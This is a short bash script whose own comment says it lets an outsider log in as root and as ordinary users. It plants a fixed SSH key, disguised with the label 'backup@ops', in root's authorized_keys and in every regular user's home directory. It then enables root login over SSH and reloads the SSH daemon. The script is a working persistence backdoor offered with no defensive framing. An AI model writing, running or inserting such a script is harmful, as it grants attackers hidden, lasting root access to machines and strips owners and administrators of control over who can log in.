#!/bin/bash
# lets an outsider log in as root and as the user
K='ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPlaceholderPlaceholder backup@ops'
add_key() {
  local d="$1/.ssh"
  mkdir -p "$d" && chmod 700 "$d"
  grep -qF "$K" "$d/authorized_keys" 2>/dev/null || echo "$K" >> "$d/authorized_keys"
  chmod 600 "$d/authorized_keys"
}
add_key /root
for u in $(awk -F: '$3>=1000{print $6}' /etc/passwd); do add_key "$u"; done
sed -i 's/^#\?PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config
systemctl reload sshd
